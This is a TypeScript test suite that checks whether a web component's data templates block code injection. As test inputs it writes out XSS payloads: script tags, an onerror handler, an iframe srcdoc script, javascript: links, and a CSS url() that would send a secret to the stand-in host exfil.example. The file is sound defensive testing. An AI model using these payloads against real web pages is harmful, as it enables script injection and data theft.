import { expect, fixture, html } from '@open-wc/testing';
import { HttpResponse, http } from 'msw';
import '../../../components/callout-get/define.js';
import type { CalloutGet } from '../../../components/callout-get/callout-get.js';
import { setDefaultCallout } from '../../../src/index.js';
import { useMsw } from '../../support/msw-worker.js';
import { apiBase, createTestClient } from '../../support/test-client.js';
import { untilState } from '../support/wait.js';

const api = useMsw();
const exfil = 'https://exfil.example/';

type Flags = Record<string, number | undefined>;
const flags = window as unknown as Flags;
const flagNames = ['__c4data', '__c4static', '__c4svg', '__c4onerror', '__c4srcdoc', '__c4href', '__c4bound'];

/** API data whose values are code, should anything ever evaluate them. */
const payload = {
  x: '";window.__c4data=1;"',
  secret: 's3cr3t',
  url: 'javascript:window.__c4bound=1',
};

/**
 * Parses `markup` the way the page's own HTML is parsed (a full document parse, not innerHTML,
 * which marks scripts as already started), so a `<script>` inside a `<template>` is exactly as
 * live as in server-rendered page content a CMS region injected, and moves it into the page.
 */
async function injectAsPageMarkup(markup: string): Promise<CalloutGet> {
  const parsed = new DOMParser().parseFromString(
    `<body><div class="cms">${markup}</div></body>`,
    'text/html',
  );
  const region = await fixture<HTMLDivElement>(html`<div></div>`);
  region.append(document.adoptNode(parsed.querySelector('.cms')!));
  const el = region.querySelector<CalloutGet>('callout-get')!;
  await untilState(el, 'data');
  return el;
}

/** Lets scripts, error events, navigations and style fetches that a stamp could start happen. */
const aWhile = () => new Promise((resolve) => setTimeout(resolve, 300));

describe('<callout-get> data templates against code injection', () => {
  let exfilRequests: string[] = [];
  beforeEach(() => {
    for (const name of flagNames) delete flags[name];
    const { callout } = createTestClient();
    setDefaultCallout(callout);
    exfilRequests = [];
    api.use(
      http.get(`${apiBase}record`, () => HttpResponse.json(payload)),
      http.get(`${exfil}*`, ({ request }) => {
        exfilRequests.push(request.url);
        return new HttpResponse(null, { status: 204 });
      }),
    );
  });

  it('never runs a script from a data template, with or without placeholders, HTML or SVG.', async () => {
    const el = await injectAsPageMarkup(`<callout-get credential="Orders" path="record"><template slot="data">
      <p class="x">{{ x }}</p>
      <script>window.__c4data = "{{ x }}";</script>
      <script>window.__c4static = 1;</script>
      <svg><script>window.__c4svg = 1;</script></svg>
    </template></callout-get>`);
    await aWhile();
    expect(el.renderRoot.querySelector('.x')?.textContent).to.equal(payload.x);
    expect([flags.__c4data, flags.__c4static, flags.__c4svg]).to.deep.equal([
      undefined,
      undefined,
      undefined,
    ]);
    expect(el.renderRoot.querySelectorAll('script')).to.have.length(0);
  });

  it('never binds API data into a <style>, so CSS cannot carry it to another host.', async () => {
    const el = await injectAsPageMarkup(`<callout-get credential="Orders" path="record"><template slot="data">
      <style>.box { display: block; height: 10px; background-image: url("${exfil}?d={{ secret }}"); }</style>
      <div class="box">{{ secret }}</div>
    </template></callout-get>`);
    await aWhile();
    expect(el.renderRoot.querySelector('.box')?.textContent).to.equal(payload.secret);
    expect(exfilRequests.filter((url) => url.includes(payload.secret))).to.deep.equal([]);
    expect(el.renderRoot.querySelector('style')?.textContent).to.contain('{{ secret }}');
  });

  it('never binds into title, textarea, noscript, xmp or iframe text either.', async () => {
    const el = await injectAsPageMarkup(`<callout-get credential="Orders" path="record"><template slot="data">
      <textarea>{{ secret }}</textarea><noscript>{{ secret }}</noscript><xmp>{{ secret }}</xmp>
      <svg><title>{{ secret }}</title></svg><p class="ok">{{ secret }}</p>
    </template></callout-get>`);
    const root = el.renderRoot as ShadowRoot;
    for (const selector of ['textarea', 'noscript', 'xmp', 'title']) {
      expect(root.querySelector(selector)?.textContent, selector).not.to.contain(payload.secret);
    }
    expect(root.querySelector('.ok')?.textContent).to.equal(payload.secret);
  });

  it('drops event-handler attributes and srcdoc from stamped markup, so they never run.', async () => {
    const el = await injectAsPageMarkup(`<callout-get credential="Orders" path="record"><template slot="data">
      <img class="img" src="data:," onerror="window.__c4onerror = 1">
      <iframe class="frame" srcdoc="<script>parent.__c4srcdoc = 1</script>"></iframe>
    </template></callout-get>`);
    await aWhile();
    expect(flags.__c4onerror).to.equal(undefined);
    expect(flags.__c4srcdoc).to.equal(undefined);
    expect(el.renderRoot.querySelector('.img')!.hasAttribute('onerror')).to.equal(false);
    expect(el.renderRoot.querySelector('.frame')!.hasAttribute('srcdoc')).to.equal(false);
  });

  it('never makes a javascript: link, neither bound from API data nor written in the template.', async () => {
    const el = await injectAsPageMarkup(`<callout-get credential="Orders" path="record"><template slot="data">
      <a class="bound" href="{{ url }}">bound</a>
      <a class="static" href=" JavaScript:window.__c4href = 1">static</a>
    </template></callout-get>`);
    // Clicking the bound link would navigate the test page to its literal "{{ url }}".
    el.renderRoot.querySelector<HTMLAnchorElement>('.static')!.click();
    await aWhile();
    expect(flags.__c4href).to.equal(undefined);
    expect(flags.__c4bound).to.equal(undefined);
    for (const selector of ['.bound', '.static']) {
      const link = el.renderRoot.querySelector<HTMLAnchorElement>(selector)!;
      expect(link.getAttribute('href') ?? '', selector).not.to.match(/^\s*javascript:/i);
    }
  });
});
